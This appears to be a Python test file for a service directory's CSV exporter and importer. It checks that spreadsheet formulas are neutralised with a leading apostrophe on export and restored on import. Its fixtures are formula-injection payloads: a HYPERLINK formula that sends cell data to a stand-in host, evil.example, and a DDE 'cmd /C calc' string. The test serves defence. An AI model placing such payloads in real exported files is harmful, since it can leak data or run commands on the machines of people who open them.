"""Spreadsheet formulas in exported CSV cells: guarded on export, read back as written."""

from __future__ import annotations

import csv

import pytest
from sqlalchemy import select

from directory.hsds import formulas
from directory.hsds.exporter import export_path
from directory.hsds.importer import import_path
from directory.models import Organization
from tests.factories import full_service

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+62 000 5550 0101", "'+62 000 5550 0101"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("-6.12", "-6.12"),
        ("+7", "+7"),
        ("LK3 Kota Serang", "LK3 Kota Serang"),
        ("'kutipan", "'kutipan"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_guarded_and_read_back(cell, written):
    assert formulas.guard(cell) == written
    assert formulas.unguard(formulas.guard(cell)) == cell


def test_an_exported_formula_is_inert_and_imports_back_unchanged(db, tmp_path):
    service = full_service()
    service.organization.name = HOSTILE
    db.session.commit()

    export_path(db.session, tmp_path / "csv")
    with (tmp_path / "csv" / "organizations.csv").open(newline="", encoding="utf-8") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert names == ["'" + HOSTILE]

    service.organization.name = "Diubah"
    db.session.commit()
    import_path(db.session, tmp_path / "csv")
    db.session.commit()
    assert db.session.scalars(select(Organization.name)).all() == [HOSTILE]
